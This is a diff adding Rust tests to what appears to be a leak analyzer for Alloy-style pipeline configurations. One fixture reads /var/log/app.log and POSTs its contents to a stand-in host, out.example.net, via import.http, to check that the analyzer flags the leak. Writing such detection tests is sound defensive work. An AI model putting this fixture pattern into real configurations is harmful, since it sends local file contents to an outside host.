@@ -86,6 +86,24 @@ fn text_of_a_log_file_leaks_as_body_header_and_label() {
 }
 
 #[test]
+fn text_of_a_log_file_leaks_with_the_request_for_a_module() {
+    let fetch = "import.http \"m\" {\n  url = \"https://out.example.net/x\"\n  method = \"POST\"\n  body = local.file.f.content\n}\n";
+    leak(&with_file("\"/var/log/app.log\"", fetch), &["https://out.example.net/x"]);
+}
+
+#[test]
+fn text_of_a_log_file_in_arguments_that_others_use_is_not_followed() {
+    for rest in [
+        "otelcol.auth.headers \"h\" {\n  header {\n    key = \"x\"\n    value = local.file.f.content\n  }\n}\n",
+        "prometheus.relabel \"r\" {\n  forward_to = []\n  rule {\n    target_label = \"x\"\n    replacement = local.file.f.content\n  }\n}\n",
+        "discovery.relabel \"r\" {\n  targets = []\n  rule {\n    target_label = \"x\"\n    replacement = string.trim_space(local.file.f.content)\n  }\n}\n",
+    ] {
+        ends(&with_file("\"/var/log/app.log\"", rest), Verdict::Undecided);
+        ends(&with_file("\"/etc/app/name\"", rest), Verdict::NotApplicable);
+    }
+}
+
+#[test]
 fn text_of_a_log_file_that_becomes_a_metric_is_not_followed() {
     let made = "prometheus.exporter.static \"s\" { text = local.file.f.content }\n";
     ends(&with_file("\"/var/log/app.log\"", made), Verdict::Undecided);
